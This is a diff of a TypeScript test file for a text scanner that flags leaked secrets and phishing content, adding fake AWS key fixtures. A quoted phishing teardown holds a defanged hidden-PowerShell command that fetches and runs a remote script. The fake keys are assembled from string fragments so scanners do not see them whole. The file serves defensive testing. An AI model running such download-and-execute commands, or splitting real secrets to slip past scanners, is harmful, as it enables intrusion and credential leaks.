@@ -69,8 +69,28 @@ powershell -w hidden -enc <base64 of: iwr hxxp://[redacted]/a.ps1 | iex>
 
 Indicators: clipboard write without user gesture, title "One more step". Block mshta and powershell as children of explorer.`
 
+const KEY_ID = ['AKIA', 'Z7QFW3N2', 'LKP5RX4M'].join('')
+const KEY_SECRET = ['wJ4lrXUtn7E', 'MIK7MDENG/bPx9fiCY', 'qk9TzLw3Nd8'].join('')
+
 /** Nothing in these is hidden, though a moderator may look at them. */
-const PUBLIC: [string, string][] = [['what a phishing page does', TEARDOWN]]
+const PUBLIC: [string, string][] = [
+  ['what a phishing page does', TEARDOWN],
+  [
+    'a signed link that no longer opens anything',
+    `The upload fails with 403:\n\nhttps://b.s3.eu-west-1.amazonaws.com/a.tgz?X-Amz-Credential=${KEY_ID}%2F20260301%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Expires=900&X-Amz-Signature=${'0b1d5e9f27c38a46'.repeat(4)}`,
+  ],
+  [
+    'a line of CloudTrail',
+    `\`\`\`json\n{"userIdentity": {"type": "IAMUser", "accessKeyId": "${KEY_ID}"}, "eventName": "PutObject", "requestID": "K2S8JQNX81EXQ0TA", "errorCode": "AccessDenied"}\n\`\`\``,
+  ],
+]
+
+/** Close to honest texts, but for what they give away. */
+const LEAKS: [string, string][] = [
+  ['the file of a new key of AWS', `Access key ID,Secret access key\n${KEY_ID},${KEY_SECRET}\n`],
+  ['a key of AWS in words', `Use ${KEY_ID} and the secret \`${KEY_SECRET}\`.`],
+  ['a key of AWS on two lines', `id: ${KEY_ID}\nvalue: ${KEY_SECRET}\n`],
+]
 
 describe('honest texts', () => {
   it.each(DOCUMENTATION)('lets %s pass', (_what, text) => {
@@ -79,5 +99,9 @@ describe('honest texts', () => {
 
   it.each(PUBLIC)('hides nothing of %s', (_what, text) => {
     expect(scanText(text).verdict).not.toMatch(/quarantine|block/)
+  })
+
+  it.each(LEAKS)('does not take %s for one', (_what, text) => {
+    expect(scanText(text).verdict).toBe('block')
   })
 })
